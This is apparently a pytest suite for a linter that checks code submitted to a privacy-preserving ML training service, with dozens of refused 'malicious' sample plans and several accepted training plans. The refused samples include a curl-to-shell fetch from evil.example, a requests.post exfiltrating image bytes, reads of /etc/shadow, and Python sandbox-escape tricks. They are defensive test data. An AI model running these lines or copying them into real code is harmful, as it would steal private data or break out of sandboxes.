"""Static checks of submitted code: malicious or out-of-policy plans are refused with a
reason naming the line; the project's own training plans are accepted."""

from __future__ import annotations

import ast
import inspect
import textwrap
from pathlib import Path

import pytest

from domain_setup.vetting.linter import Verdict, check_code, check_config
from domain_setup.policy.approval import load_approval_rules

PROJECT_ROOT = Path(__file__).resolve().parent.parent
MARK = "#!"  # marks the line a case's reason must name


@pytest.fixture(scope="module")
def rules():
    return load_approval_rules(PROJECT_ROOT / "policies" / "approval.yaml")


def _marked_line(source: str) -> int:
    for number, line in enumerate(source.splitlines(), start=1):
        if MARK in line:
            return number
    raise AssertionError("case has no #! marker")


# (source, expected substring of the reason on the #! line)
MALICIOUS = {
    "open_file": ('''
def plan(images, labels, config):
    text = open("/etc/shadow").read()  #!
    return {"metrics": {"n": len(text)}}
''', "forbidden call 'open'"),
    "dunder_import": ('''
def plan(images, labels, config):
    os = __import__("os")  #!
    return {"metrics": {}}
''', "forbidden call '__import__'"),
    "import_os": ('''
def plan(images, labels, config):
    import os  #!
    os.system("curl evil.example | sh")
    return {"metrics": {}}
''', "import of 'os' is not allowed"),
    "from_subprocess": ('''
def plan(images, labels, config):
    from subprocess import run  #!
    run(["ls"])
    return {"metrics": {}}
''', "forbidden module 'subprocess'"),
    "import_socket": ('''
def plan(images, labels, config):
    import socket  #!
    return {"metrics": {}}
''', "forbidden module 'socket'"),
    "import_pickle": ('''
def plan(images, labels, config):
    import pickle  #!
    return {"metrics": {}}
''', "forbidden module 'pickle'"),
    "exec": ('''
def plan(images, labels, config):
    exec("import os; os.remove('/data')")  #!
    return {"metrics": {}}
''', "forbidden call 'exec'"),
    "eval": ('''
def plan(images, labels, config):
    value = eval(config["expr"])  #!
    return {"metrics": {"v": value}}
''', "forbidden call 'eval'"),
    "compile": ('''
def plan(images, labels, config):
    code = compile("1", "x", "eval")  #!
    return {"metrics": {}}
''', "forbidden call 'compile'"),
    "getattr_string_trick": ('''
def plan(images, labels, config):
    import torch
    loader = getattr(torch, "lo" + "ad")  #!
    return {"metrics": {}}
''', "forbidden call 'getattr'"),
    "subclasses_walk": ('''
def plan(images, labels, config):
    classes = ().__class__.__base__.__subclasses__()  #!
    return {"metrics": {}}
''', "dunder attribute '__class__'"),
    "function_globals": ('''
def plan(images, labels, config):
    def f():
        pass
    g = f.__globals__  #!
    return {"metrics": {}}
''', "dunder attribute '__globals__'"),
    "builtins_name": ('''
def plan(images, labels, config):
    b = __builtins__  #!
    return {"metrics": {}}
''', "dunder name '__builtins__'"),
    "importlib": ('''
def plan(images, labels, config):
    import importlib
    os = importlib.import_module("os")  #!
    return {"metrics": {}}
''', "forbidden call 'importlib.import_module'"),
    "importlib_import_line": ('''
def plan(images, labels, config):
    import importlib  #!
    return {"metrics": {}}
''', "forbidden module 'importlib'"),
    "torch_load": ('''
def plan(images, labels, config):
    import torch
    model = torch.load("/tmp/evil.pt")  #!
    return {"metrics": {}}
''', "forbidden call 'torch.load'"),
    "numpy_save": ('''
def plan(images, labels, config):
    import numpy as np
    np.save("/tmp/stolen.npy", images)  #!
    return {"metrics": {}}
''', "forbidden call 'numpy.save' ('np.save')"),
    "tofile": ('''
def plan(images, labels, config):
    images.numpy().tofile("/tmp/stolen.bin")  #!
    return {"metrics": {}}
''', "forbidden call 'images.numpy().tofile'"),
    "return_raw_images": ('''
def plan(images, labels, config):
    return images  #!
''', "returns private input data ('images')"),
    "return_image_slice": ('''
def plan(images, labels, config):
    return images[:10]  #!
''', "returns private input data ('images[:10]')"),
    "return_images_in_dict": ('''
def plan(images, labels, config):
    from common.training import train
    w = train(images, labels, model="small_cnn", epochs=1)["weights"]
    return {"weights": w, "x": images.numpy()}  #!
''', "returns private input data ('images.numpy()')"),
    "return_labels_list": ('''
def plan(images, labels, config):
    return {"metrics": labels.tolist()}  #!
''', "returns private input data ('labels.tolist()')"),
    "unknown_return_key": ('''
def plan(images, labels, config):
    return {"weights": {}, "x": 1}  #!
''', "return key 'x' is not allowed"),
    "epochs_1000": ('''
def plan(images, labels, config):
    from common.training import train
    result = train(images, labels, model="small_cnn", epochs=1000)  #!
    return {"weights": result["weights"]}
''', "epochs=1000 exceeds the limit of 20"),
    "unknown_model": ('''
def plan(images, labels, config):
    from common.training import train
    result = train(images, labels, model="vit_huge", epochs=2)  #!
    return {"weights": result["weights"]}
''', "model 'vit_huge' is not allowed"),
    "relative_import": ('''
def plan(images, labels, config):
    from .helpers import steal  #!
    return {"metrics": {}}
''', "relative import is not allowed"),
    "import_requests": ('''
def plan(images, labels, config):
    import requests  #!
    requests.post("https://evil.example", data=images.numpy().tobytes())
    return {"metrics": {}}
''', "import of 'requests' is not allowed"),
    "globals_builtins": ('''
def plan(images, labels, config):
    b = globals()["__builtins__"]  #!
    return {"metrics": {}}
''', "forbidden call 'globals'"),
    "lambda_wrapped_exec": ('''
def plan(images, labels, config):
    run = lambda text: exec(text)  #!
    run("import os")
    return {"metrics": {}}
''', "forbidden call 'exec'"),
    "breakpoint": ('''
def plan(images, labels, config):
    breakpoint()  #!
    return {"metrics": {}}
''', "forbidden call 'breakpoint'"),
    "leak_through_variable": ('''
def plan(images, labels, config):
    sample = images[:10].reshape(10, -1)
    return {"weights": sample}  #!
''', "returns private input data ('sample')"),
    "leak_through_closure": ('''
def plan(images, labels, config):
    def leak():
        return images.numpy()
    return {"weights": leak()}  #!
''', "returns private input data ('leak()')"),
    "leak_through_list_append": ('''
def plan(images, labels, config):
    out = []
    for i in range(3):
        out.append(images[i])
    return {"weights": out}  #!
''', "returns private input data ('out')"),
    "leak_through_comprehension": ('''
def plan(images, labels, config):
    return {"history": [float(p) for p in images.flatten()]}  #!
''', "returns private input data"),
    "print_images": ('''
def plan(images, labels, config):
    print(images.numpy().tolist())  #!
    return {"metrics": {}}
''', "prints private input data"),
    "raise_with_images": ('''
def plan(images, labels, config):
    raise ValueError(str(images.tolist()))  #!
''', "puts in an exception private input data"),
    "torch_os_system": ('''
def plan(images, labels, config):
    import torch
    torch.os.system("id")  #!
    return {"metrics": {}}
''', "forbidden call 'torch.os.system'"),
    "module_as_value": ('''
def plan(images, labels, config):
    import torch
    m = [torch][0]  #!
    m.load("/tmp/x")
    return {"metrics": {}}
''', "module 'torch' used as a value"),
    "aliased_forbidden_import": ('''
def plan(images, labels, config):
    from torch import load as innocent  #!
    innocent("/tmp/x")
    return {"metrics": {}}
''', "import of forbidden API 'torch.load'"),
    "torch_hub": ('''
def plan(images, labels, config):
    import torch
    net = torch.hub.load("evil/repo", "model")  #!
    return {"metrics": {}}
''', "forbidden call 'torch.hub.load'"),
    "cpp_extension": ('''
def plan(images, labels, config):
    from torch.utils import cpp_extension  #!
    return {"metrics": {}}
''', "import of forbidden API 'torch.utils.cpp_extension'"),
    "torch_private_c": ('''
def plan(images, labels, config):
    import torch
    torch._C._set_something(1)  #!
    return {"metrics": {}}
''', "private attribute '_C'"),
    "format_string_trick": ('''
def plan(images, labels, config):
    text = "{0.__globals__}".format(plan)  #!
    return {"metrics": {}}
''', "string mentions dunder name '__globals__'"),
    "shadow_vetted_function": ('''
def plan(images, labels, config):
    from common.training import train
    def train(x, **kw):  #!
        return {"weights": x}
    return train(images)
''', "imported name 'train' is bound again"),
    "monkeypatch_vetted_module": ('''
def plan(images, labels, config):
    import common.training
    common.training.evaluate = lambda *a, **k: 0  #!
    return {"metrics": {}}
''', "assignment to module attribute 'common.training.evaluate'"),
    "second_top_level_statement": ('''
def plan(images, labels, config):
    return {"metrics": {}}
import os  #!
''', "only one top-level function is allowed"),
    "class_definition": ('''
def plan(images, labels, config):
    class Evil:  #!
        pass
    return {"metrics": {}}
''', "class definitions are not allowed"),
    "default_argument_runs_code": ('''
def plan(images, labels, config, x=__import__("os").system("id")):  #!
    return {"metrics": {}}
''', "forbidden call '__import__'"),
    "epochs_from_other_parameter": ('''
def plan(images, labels, config, n):
    from common.training import train
    result = train(images, labels, model=config["model"], epochs=n)  #!
    return {"weights": result["weights"]}
''', "epochs must be a literal or config['epochs']"),
    "epochs_from_other_config_key": ('''
def plan(images, labels, config):
    from common.training import train
    result = train(images, labels, model=config["model"], epochs=config["batch_size"])  #!
    return {"weights": result["weights"]}
''', "epochs must be a literal or config['epochs']"),
    "epochs_through_variable": ('''
def plan(images, labels, config):
    from common.training import train
    n = 500  #!
    result = train(images, labels, model=config["model"], epochs=n)
    return {"weights": result["weights"]}
''', "epochs=500 exceeds the limit of 20"),
    "config_overwritten": ('''
def plan(images, labels, config):
    config.update(epochs=config["epochs"] * 100)  #!
    return {"metrics": {}}
''', "config may only be read"),
    "config_passed_to_helper": ('''
def plan(images, labels, config):
    from common.training import train
    def bump(c):
        c["ep" + "ochs"] = 10_000
    bump(config)  #!
    result = train(images, labels, model=config["model"], epochs=config["epochs"])
    return {"weights": result["weights"]}
''', "config may only be read"),
    "config_rebound": ('''
def plan(images, labels, config):
    config = {"epochs": config["epochs"] * 100}  #!
    return {"metrics": {}}
''', "config must not be modified or reassigned"),
    "batch_size_too_large": ('''
def plan(images, labels, config):
    from common.training import train
    result = train(images, labels, model="small_cnn", epochs=2, batch_size=100000)  #!
    return {"weights": result["weights"]}
''', "batch_size=100000 exceeds the limit of 512"),
    "vars_builtin": ('''
def plan(images, labels, config):
    import torch
    everything = vars(torch)  #!
    return {"metrics": {}}
''', "forbidden call 'vars'"),
    "numpy_memmap_deep": ('''
def plan(images, labels, config):
    import numpy as np
    m = np.lib.format.open_memmap("/tmp/x.npy", mode="w+")  #!
    return {"metrics": {}}
''', "forbidden call 'numpy.lib.format.open_memmap'"),
    "return_not_a_dict": ('''
def plan(images, labels, config):
    return [1, 2, 3]  #!
''', "must return a dict literal"),
    "dict_unpacking": ('''
def plan(images, labels, config):
    extra = {"weights": 1}
    return {**extra}  #!
''', "dict unpacking (**) in the return value"),
    "star_import": ('''
def plan(images, labels, config):
    from numpy import *  #!
    return {"metrics": {}}
''', "star import from 'numpy' is not allowed"),
    "global_statement": ('''
def plan(images, labels, config):
    global leaked  #!
    return {"metrics": {}}
''', "global statements are not allowed"),
    "async_function": ('''
async def plan(images, labels, config):  #!
    return {"metrics": {}}
''', "async code is not allowed"),
    "generator_frame_escape": ('''
def plan(images, labels, config):
    g = (x for x in [])
    env = g.gi_frame.f_back.f_globals  #!
    return {"metrics": {}}
''', "forbidden name 'g.gi_frame.f_back.f_globals'"),
    "print_alias": ('''
def plan(images, labels, config):
    say = print  #!
    say(images)
    return {"metrics": {}}
''', "print used as a value"),
    "initial_weights_from_images": ('''
def plan(images, labels, config):
    from common.training import train
    result = train(images, labels, model="small_cnn", epochs=1,
                   initial_weights={"conv1.weight": images[:16]})  #!
    return {"weights": result["weights"]}
''', "private input data passed to common.training.train outside its first 2 arguments"),
    "tiny_batches": ('''
def plan(images, labels, config):
    from common.training import train
    result = train(images, labels, model="small_cnn", epochs=1, batch_size=1)  #!
    return {"weights": result["weights"]}
''', "batch_size must be at least 16, got 1"),
    "model_constant": ('''
def plan(images, labels, config):
    from common.training import train
    model = "vit_huge"  #!
    result = train(images, labels, model=model, epochs=1)
    return {"weights": result["weights"]}
''', "model 'vit_huge' is not allowed"),
    "implicit_flow_bits": ('''
def plan(images, labels, config):
    bits = []
    for value in images[0].flatten().tolist():
        if value > 0.5:
            bits.append(1)
        else:
            bits.append(0)
    return {"history": bits}  #!
''', "returns private input data ('bits')"),
    "implicit_flow_return": ('''
def plan(images, labels, config):
    if images[0, 0, 0, 0] > 0.5:
        return {"metrics": {"bright": 1}}  #!
    return {"metrics": {"bright": 0}}
''', "returns under a condition on private input data"),
    "fake_vetted_module": ('''
def plan(images, labels, config, common):
    result = common.training.train(images, labels, model="small_cnn", epochs=1)
    return {"weights": result["weights"]}  #!
''', "returns private input data"),
    "generator_plan": ('''
def plan(images, labels, config):
    yield {"weights": images}  #!
''', "the plan must return, not yield"),
    "leak_through_alias": ('''
def plan(images, labels, config):
    from common.training import train
    result = train(images, labels, model="small_cnn", epochs=1)
    weights = result["weights"]
    alias = weights
    alias["conv1.weight"] = images[:16]
    return {"weights": weights}  #!
''', "returns private input data ('weights')"),
    "leak_through_model_state": ('''
def plan(images, labels, config):
    from common.models import build_model
    net = build_model("small_cnn")
    net(images)
    return {"weights": {k: v.numpy() for k, v in net.state_dict().items()}}  #!
''', "returns private input data"),
    "uninitialised_memory": ('''
def plan(images, labels, config):
    import torch
    scratch = torch.empty(10_000_000)  #!
    return {"history": scratch.tolist()}
''', "forbidden call 'torch.empty'"),
    "key_file_helper": ('''
def plan(images, labels, config):
    from common.sealing import load_private_key  #!
    return {"partial_sum": load_private_key("/srv/state/keys/aggregation_x25519.key")}
''', "import of 'common.sealing.load_private_key' is not allowed"),
    "syntax_error": ('''
def plan(images, labels, config):
    return {"metrics": }  #!
''', "syntax error"),
}


@pytest.mark.parametrize("name", sorted(MALICIOUS))
def test_malicious_submission_is_refused(rules, name):
    source, expected = MALICIOUS[name]
    source = source.lstrip("\n")
    verdict = check_code(source, rules)
    assert not verdict.ok
    line = _marked_line(source)
    assert any(r.startswith(f"line {line}: ") and expected in r for r in verdict.reasons), \
        f"expected line {line}: ...{expected}... in {verdict.reasons}"
    assert all("\n" not in r for r in verdict.reasons)


def test_every_reason_is_one_numbered_line(rules):
    verdict = check_code(MALICIOUS["import_requests"][0].lstrip("\n"), rules)
    assert verdict.reasons and all(r.startswith("line ") for r in verdict.reasons)
    assert len(MALICIOUS) >= 20


def test_input_shapes_make_any_asset_parameter_private(rules):
    source = textwrap.dedent('''
        def plan(x, y, config):
            return {"weights": x.reshape(-1)}
    ''')
    verdict = check_code(source, rules, input_shapes={"x": (400, 1, 28, 28), "y": (400,)})
    assert not verdict.ok
    assert "returns private input data ('x.reshape(-1)'); input 'x' has shape (400, 1, 28, 28)" \
        in verdict.reasons[0]


def test_asset_named_like_a_public_input_is_still_private(rules):
    source = "def plan(initial_weights, labels):\n    return {\"weights\": initial_weights}\n"
    assert check_code(source, rules).ok  # a public constant by name alone ...
    verdict = check_code(source, rules, input_shapes={"initial_weights": (10, 28, 28)})
    assert not verdict.ok  # ... but not when the request binds an asset to it
    assert "returns private input data ('initial_weights')" in verdict.reasons[0]


# --- the project's own plans are accepted -------------------------------------------------

TRAIN_PLAN = '''
def train_xray_plan(images, labels, config, initial_weights):
    from common.training import train
    result = train(images, labels, model=config["model"], epochs=3, lr=config["lr"],
                   batch_size=config["batch_size"], seed=config["seed"],
                   initial_weights=initial_weights)
    return {"weights": result["weights"], "history": result["history"],
            "n_samples": result["n_samples"]}
'''

EVALUATE_PLAN = '''
def evaluate_xray_plan(images, labels, weights, config):
    from common.training import evaluate
    return {"metrics": evaluate(images, labels, weights, model=config["model"])}
'''

SECURE_TRAIN_PLAN = '''
def secure_train_plan(images, labels, config, initial_weights, aggregator_keys):
    from common.training import train
    from common.secret_sharing import share_state_dict
    from common.sealing import key_from_text, seal_shares

    result = train(images, labels, model=config["model"], epochs=config["epochs"],
                   lr=config["lr"], batch_size=config["batch_size"], seed=config["seed"],
                   initial_weights=initial_weights or None)
    n = result["n_samples"]
    scaled = {name: value * n for name, value in result["weights"].items()}
    shares = share_state_dict(scaled, len(aggregator_keys))
    sealed = seal_shares(shares, [key_from_text(k) for k in aggregator_keys])
    return {"sealed_shares": sealed, "n_samples": n, "history": result["history"]}
'''

AGGREGATE_PLAN = '''
def aggregate_shares_plan(aggregation_key, sealed_shares):
    from common.secret_sharing import add_state_dict_shares
    from common.sealing import open_share
    from common.wire import dumps

    total = None
    for ciphertext in sealed_shares:
        share = open_share(ciphertext, bytes(aggregation_key))
        total = share if total is None else add_state_dict_shares(total, share)
    return {"partial_sum": dumps(total), "n_shares": len(sealed_shares)}
'''

DECORATED_PLAN = '''
@sy.syft_function(input_policy=sy.MixedInputPolicy(client=client, images=a, labels=b),
                  output_policy=sy.SingleExecutionExactOutput())
def train_xray_plan_1a2b3c4d(images, labels, config, initial_weights):
    import torch
    import numpy as np
    from common.training import train

    torch.manual_seed(config["seed"])
    assert images.shape[0] == len(labels), "images and labels differ in length"
    result = train(images, labels, model="resnet18", epochs=2, batch_size=32,
                   initial_weights=initial_weights)
    weights = {k: np.asarray(v, dtype=np.float32) for k, v in result["weights"].items()}
    return {"weights": weights, "history": result["history"],
            "n_samples": int(images.shape[0])}
'''

VETTED_RESULT_PLAN = '''
def evaluate_only(images, labels, weights, config):
    from common.training import evaluate
    metrics = evaluate(images, labels, weights, model=config.get("model", "small_cnn"))
    return metrics
'''

HELPER_PLAN = '''
def plan_with_helpers(images, labels, config, initial_weights):
    import math
    import torch
    from common.models import build_model
    from common.training import train, evaluate

    def clipped(value, low=0.0, high=1.0):
        return max(low, min(high, value))

    model = build_model(config["model"])
    n_train = int(math.floor(0.8 * len(images)))
    with torch.no_grad():
        scale = float(torch.tensor(1.0).item())
    result = train(images[:n_train], labels[:n_train], model=config["model"],
                   epochs=config["epochs"], batch_size=config.get("batch_size", 64),
                   lr=clipped(config["lr"] * scale), initial_weights=initial_weights)
    metrics = evaluate(images[n_train:], labels[n_train:], result["weights"],
                       model=config["model"])
    return {"weights": result["weights"], "metrics": metrics, "n_samples": n_train,
            "history": result["history"]}
'''

NORMALISING_PLAN = '''
def train_normalised(images, labels, config, initial_weights):
    import numpy as np
    from common.training import train

    pixels = np.asarray(images, dtype=np.float32)
    normalised = (pixels - pixels.mean()) / (pixels.std() + 1e-6)
    result = train(normalised, labels, model=config["model"], epochs=config["epochs"],
                   batch_size=config["batch_size"], initial_weights=initial_weights)
    weights = {k: np.asarray(v, dtype=np.float32) for k, v in result["weights"].items()}
    return {"weights": weights, "n_samples": result["n_samples"], "model": result["model"]}
'''

ACCEPTED = {"train": TRAIN_PLAN, "evaluate": EVALUATE_PLAN, "secure_train": SECURE_TRAIN_PLAN,
            "aggregate": AGGREGATE_PLAN, "decorated": DECORATED_PLAN,
            "vetted_result": VETTED_RESULT_PLAN, "helpers": HELPER_PLAN,
            "normalising": NORMALISING_PLAN}


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_project_plans_are_accepted(rules, name):
    verdict = check_code(textwrap.dedent(ACCEPTED[name]).lstrip("\n"), rules)
    assert verdict == Verdict(ok=True, reasons=[])


def _researcher_plans() -> list:
    """Every `*_plan` function of the vetted plans the researcher helpers submit
    (common/vetted_plans.py, re-exported by scientist/plans.py), as syft stores them."""
    text = (PROJECT_ROOT / "common" / "vetted_plans.py").read_text()
    return [pytest.param(ast.get_source_segment(text, node), id=node.name)
            for node in ast.parse(text).body
            if isinstance(node, ast.FunctionDef) and node.name.endswith("_plan")]


@pytest.mark.parametrize("source", _researcher_plans())
def test_researcher_side_plans_are_accepted(rules, source):
    """The plans the researcher helpers really submit pass the shipped rules."""
    assert check_code(source, rules).reasons == []


def test_opened_shares_added_in_a_loop_over_private_input_are_refused(rules):
    """An aggregation input is private data to the rules (the review cannot read it):
    adding opened shares in a loop over it would leak through the loop."""
    looped = check_code(textwrap.dedent(AGGREGATE_PLAN).lstrip("\n"), rules,
                        input_shapes={"aggregation_key": (), "sealed_shares": ()})
    assert not looped.ok and any("private" in reason for reason in looped.reasons)


# --- config constants ----------------------------------------------------------------------

def test_config_within_limits_passes(rules):
    config = {"model": "small_cnn", "epochs": 3, "lr": 1e-3, "batch_size": 64, "seed": 0}
    assert check_config(config, rules) == []


@pytest.mark.parametrize("config,expected", [
    ({"epochs": 1000}, "config: epochs=1000 exceeds the limit of 20"),
    ({"epochs": 0}, "config: epochs must be at least 1, got 0"),
    ({"epochs": "3"}, "config: epochs must be an integer, got '3'"),
    ({"epochs": True}, "config: epochs must be an integer, got True"),
    ({"batch_size": 4096}, "config: batch_size=4096 exceeds the limit of 512"),
    ({"batch_size": 2}, "config: batch_size must be at least 16, got 2"),
    ({"model": "vit_huge"}, "config: model 'vit_huge' is not allowed"),
])
def test_config_out_of_limits_is_reported(rules, config, expected):
    reasons = check_config(config, rules)
    assert len(reasons) == 1 and reasons[0].startswith(expected)


def test_config_must_be_a_dict(rules):
    assert check_config(["epochs", 3], rules) == ["config must be a dict, got list"]
